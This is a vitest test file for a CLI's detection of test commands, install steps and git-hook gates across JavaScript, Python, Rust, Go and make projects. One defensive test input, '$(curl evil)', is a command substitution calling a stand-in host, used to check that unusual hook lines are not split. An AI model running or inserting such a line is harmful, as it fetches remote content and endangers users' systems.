import { describe, expect, test } from 'vitest';
import { detectSetup, detectTests, installOf, type Project } from '../../src/cli/detect.js';
import { detectHooks } from '../../src/cli/detect-hooks.js';

type Parts = Partial<Omit<Project, 'files' | 'names'>> & {
  /** Files of the top folder, by name. */
  readonly top?: Readonly<Record<string, string>>;
};

function project({ top = {}, ...rest }: Parts): Project {
  return {
    name: 'app',
    names: new Set(Object.keys(top)),
    files: new Map(Object.entries(top)),
    testNames: [],
    hooks: [],
    specs: [],
    isRepository: true,
    hasCommit: true,
    hasClaude: false,
    ...rest,
  };
}

function manifest(content: Readonly<Record<string, unknown>>): string {
  return JSON.stringify(content);
}

const tested = manifest({ scripts: { test: 'vitest run' } });

function testCommands(parts: Parts): readonly string[] {
  return detectTests(project(parts)).map(({ command }) => command);
}

describe('the test command', () => {
  test.each([
    ['package-lock.json', 'npm test'],
    ['npm-shrinkwrap.json', 'npm test'],
    ['pnpm-lock.yaml', 'pnpm test'],
    ['yarn.lock', 'yarn test'],
    ['bun.lockb', 'bun run test'],
    ['bun.lock', 'bun run test'],
  ])('runs the script with the package manager of %s', (lock, command) => {
    expect(testCommands({ top: { 'package.json': tested, [lock]: '' } })).toEqual([command]);
  });

  test('uses npm where nothing names a package manager', () => {
    expect(testCommands({ top: { 'package.json': tested } })).toEqual(['npm test']);
  });

  test('believes packageManager before a lock file', () => {
    const top = { 'package.json': manifest({ packageManager: 'pnpm@9.1.0', scripts: { test: 'x' } }), 'yarn.lock': '' };
    expect(testCommands({ top })).toEqual(['pnpm test']);
  });

  test.each([
    ['the placeholder of npm init', manifest({ scripts: { test: 'echo "Error: no test specified" && exit 1' } })],
    ['an empty script', manifest({ scripts: { test: ' ' } })],
    ['a script that is not text', manifest({ scripts: { test: ['x'] } })],
    ['no scripts', manifest({})],
    ['scripts of null', manifest({ scripts: null })],
    ['a file that is not JSON', '{'],
    ['a list', '[]'],
    ['null', 'null'],
  ])('is not taken from %s', (_what, text) => {
    expect(testCommands({ top: { 'package.json': text } })).toEqual([]);
  });

  test('is found for Rust, Go and make', () => {
    expect(testCommands({ top: { 'Cargo.toml': '' } })).toEqual(['cargo test']);
    expect(testCommands({ top: { 'go.mod': '' } })).toEqual(['go test ./...']);
    expect(testCommands({ top: { Makefile: 'all:\n\ttrue\ntest: all\n\ttrue\n' } })).toEqual(['make test']);
  });

  test.each([['test := x\n'], ['.PHONY: test\n'], ['tests:\n\ttrue\n']])('is not seen in the Makefile %j', (text) => {
    expect(testCommands({ top: { Makefile: text } })).toEqual([]);
  });

  test.each([
    [{ 'pytest.ini': '' }],
    [{ 'pyproject.toml': '[tool.pytest.ini_options]\n' }],
    [{ 'pyproject.toml': '[dependency-groups]\ndev = [\n  "pytest>=8",\n]\n' }],
    [{ 'setup.cfg': '[tool:pytest]\n' }],
    [{ 'tox.ini': '[pytest]\n' }],
    [{ 'requirements-dev.txt': 'black\npytest==8.1\n' }],
    [{ 'conftest.py': '' }],
  ])('is pytest because of %j', (top) => {
    expect(testCommands({ top })).toEqual(['python3 -m pytest']);
  });

  test('is pytest because of test files in tests/, run by the tool that owns the lock file', () => {
    const testNames = ['tests/__init__.py', 'tests/test_app.py'];
    expect(testCommands({ testNames })).toEqual(['python3 -m pytest']);
    expect(testCommands({ testNames, top: { 'uv.lock': '' } })).toEqual(['uv run pytest']);
    expect(testCommands({ testNames, top: { 'poetry.lock': '' } })).toEqual(['poetry run pytest']);
  });

  test('is not pytest in a Python project without a sign of it', () => {
    const top = { 'pyproject.toml': '[project]\nname = "x"\n', 'setup.cfg': '[metadata]\n', 'tox.ini': '[tox]\n' };
    expect(testCommands({ top, testNames: ['tests/app.py'] })).toEqual([]);
  });

  test('of package.json comes before those of other languages', () => {
    const top = { 'package.json': tested, 'Cargo.toml': '', Makefile: 'test:\n' };
    expect(testCommands({ top })).toEqual(['npm test', 'cargo test', 'make test']);
  });
});

describe('the setup', () => {
  test.each([
    ['package-lock.json', 'npm ci'],
    ['npm-shrinkwrap.json', 'npm ci'],
    ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile'],
    ['yarn.lock', 'yarn install --frozen-lockfile'],
    ['bun.lockb', 'bun install --frozen-lockfile'],
  ])('installs from %s', (lock, command) => {
    expect(detectSetup(project({ top: { 'package.json': '{}', [lock]: '' } }))).toEqual({ command, from: lock });
  });

  test.each([
    [['package-lock.json'], 'npm ci'],
    [['pnpm-lock.yaml'], 'pnpm install --frozen-lockfile'],
    [['yarn.lock', '.yarnrc.yml'], 'yarn install --immutable'],
    [[], 'npm install'],
  ])('node_modules of a folder with %j come from %s', (names, command) => {
    expect(installOf(new Set(names))).toBe(command);
  });

  test('knows the newer yarn', () => {
    const command = 'yarn install --immutable';
    const top = { 'package.json': '{}', 'yarn.lock': '' };
    expect(detectSetup(project({ top: { ...top, '.yarnrc.yml': '' } }))?.command).toBe(command);
    const declared = manifest({ packageManager: 'yarn@4.1.0' });
    expect(detectSetup(project({ top: { ...top, 'package.json': declared } }))?.command).toBe(command);
    const classic = manifest({ packageManager: 'yarn@1.22.0' });
    expect(detectSetup(project({ top: { ...top, 'package.json': classic } }))?.command).not.toBe(command);
  });

  test('is none without a lock file, since then nobody knows what to install', () => {
    expect(detectSetup(project({ top: { 'package.json': tested } }))).toBeUndefined();
    expect(detectSetup(project({ top: { 'yarn.lock': '' } }))).toBeUndefined();
  });
});

describe('git hooks', () => {
  const hook = (path: string, text: string, tracked = true) => ({ path, text, tracked });

  test('become gates, one for each plain command', () => {
    const text =
      '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\n# checks\nnpm run lint\nnpx tsc --noEmit\n./scripts/check.sh\n';
    expect(detectHooks(project({ hooks: [hook('.husky/pre-commit', text)] }))).toEqual([
      { name: 'lint', command: 'npm run lint', from: '.husky/pre-commit' },
      { name: 'tsc', command: 'npx tsc --noEmit', from: '.husky/pre-commit' },
      { name: 'check', command: './scripts/check.sh', from: '.husky/pre-commit' },
    ]);
  });

  test('that run the tests add nothing', () => {
    const gates = detectHooks(
      project({ top: { 'package.json': tested }, hooks: [hook('.husky/pre-push', 'npm test\n')] }),
    );
    expect(gates).toEqual([]);
  });

  test('that look at staged files only get the whole check, and say why', () => {
    const top = { 'package.json': manifest({ scripts: { lint: 'eslint .' } }) };
    const [gate] = detectHooks(project({ top, hooks: [hook('.husky/pre-commit', 'npx lint-staged\n')] }));
    expect(gate).toMatchObject({ name: 'lint', command: 'npm run lint' });
    expect(gate?.caution).toContain('staged');
  });

  test('with control flow are proposed as one script, with a caution', () => {
    const text = 'if git diff --cached | grep -q TODO; then\n  exit 1\nfi\n';
    const [tracked] = detectHooks(project({ hooks: [hook('.githooks/pre-commit', text)] }));
    expect(tracked).toMatchObject({ name: 'pre-commit', command: 'sh .githooks/pre-commit' });
    expect(tracked?.caution).toContain('staged');
    const [untracked] = detectHooks(project({ hooks: [hook('.git/hooks/pre-commit', text, false)] }));
    expect(untracked?.caution).toContain('in no commit');
  });

  test.each([
    ['npm run lint || true'],
    ['npm run lint && npm run types'],
    ['FOO=1 npm run lint'],
    ['exec npm run lint'],
    ['npm run $WHAT'],
    ['npm run "open'],
    ['npm run lint \\'],
    ['$(curl evil)'],
    ['npm run lint > log'],
  ])('are not cut into lines that mean something else: %s', (line) => {
    const [gate] = detectHooks(project({ hooks: [hook('.githooks/pre-commit', `${line}\n`)] }));
    expect(gate?.command).toBe('sh .githooks/pre-commit');
  });

  test('about messages and branches are no gates', () => {
    const hooks = ['commit-msg', 'prepare-commit-msg', 'post-checkout', 'post-merge'].map((name) =>
      hook(`.husky/${name}`, 'npx commitlint --edit\n'),
    );
    expect(detectHooks(project({ hooks }))).toEqual([]);
  });

  test('of managers run all their checks on all files, once', () => {
    const stub = hook('.git/hooks/pre-commit', '#!/bin/sh\ncall_lefthook run "pre-commit" "$@"\n', false);
    const gates = detectHooks(project({ top: { 'lefthook.yml': '', '.pre-commit-config.yaml': '' }, hooks: [stub] }));
    expect(gates.map(({ command }) => command)).toEqual([
      'lefthook run pre-commit --all-files',
      'pre-commit run --all-files',
    ]);
  });

  test('with the same command come once, and no two gates have one name', () => {
    const hooks = [hook('.husky/pre-commit', 'npm run lint\nnpx lint\n'), hook('.husky/pre-push', 'npm run lint\n')];
    expect(detectHooks(project({ hooks })).map(({ name, command }) => [name, command])).toEqual([
      ['lint', 'npm run lint'],
      ['lint-2', 'npx lint'],
    ]);
  });
});
